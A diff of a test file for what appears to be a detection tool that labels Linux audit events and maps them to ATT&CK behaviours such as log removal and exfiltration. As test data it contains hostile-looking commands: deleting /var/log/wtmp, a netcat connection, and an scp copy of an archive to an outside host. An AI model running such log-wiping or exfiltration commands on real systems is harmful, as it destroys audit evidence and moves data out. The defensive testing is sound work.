@@ -56,9 +56,27 @@ test.each([
     "connect | nc | nc → 10.0.0.1:80 internal",
   ],
   [
-    "a failed call on a file",
+    "a refused call on a file",
     { event_type: "audit", type: "unlink", exe: "/bin/rm", path: ["/var/log/wtmp"], exit: "-13" },
-    "unlink | rm | rm → /var/log/wtmp | failed",
+    "unlink | rm | rm → /var/log/wtmp | refused",
+  ],
+  [
+    "a call that failed for another reason",
+    { event_type: "audit", type: "unlink", exe: "/bin/rm", path: ["/tmp/x"], exit: "-2" },
+    "unlink | rm | rm → /tmp/x | failed",
+  ],
+  [
+    "a connection that does not wait",
+    {
+      event_type: "audit",
+      type: "connect",
+      exe: "/bin/nc",
+      dst_ip: "10.0.0.1",
+      dst_port: 80,
+      exit: "-115",
+      success: false,
+    },
+    "connect | nc | nc → 10.0.0.1:80 internal",
   ],
   [
     "a call of no special meaning",
@@ -95,12 +113,12 @@ test("a call that does not name its file is known by its command line", () => {
     exe: "/bin/rm",
     arguments: "rm -f /var/log/wtmp x",
   };
-  expect(behavioursOf(call)).toEqual(["T1070.002 logs removed"]);
+  expect(behavioursOf(call)).toEqual(["T1070.002 security log removed"]);
 });
 
 test("a copy to another host is sent out, not fetched", () => {
   const copy = { ...START, exe: "/usr/bin/scp", arguments: "scp /var/tmp/a.tgz me@203.0.113.9:" };
-  expect(behavioursOf(copy)).toEqual(["T1048 files sent out"]);
+  expect(behavioursOf(copy)).toEqual(["T1048 files copied to a host outside"]);
 });
 
 test("owners are told where they change", () => {
